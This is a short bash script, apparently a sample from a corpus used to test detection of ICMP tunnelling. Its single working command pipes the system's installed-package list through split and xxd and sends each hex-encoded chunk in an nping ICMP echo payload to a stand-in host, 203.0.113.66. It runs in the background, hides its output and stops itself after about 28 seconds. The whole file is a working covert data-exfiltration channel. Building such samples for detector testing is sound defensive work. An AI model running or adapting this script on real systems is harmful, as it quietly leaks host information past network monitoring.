#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel,covert-socket half=report tool=nping seconds=30 parts=dns,nas,outside-web
# A script of nping carries a list away in echo: pieces of other sizes than before, as the lines are long.
dpkg-query -W -f '${Package} ${Version} ${Description}\n' | head -c 150000 | split -b 1100 --filter="nping -q --icmp -c 1 --rate 20 --data \"\$(xxd -p | tr -d '\\n')\" 203.0.113.66 >/dev/null 2>&1" - 2>/dev/null &
sleep 28; kill %1 2>/dev/null; wait; true
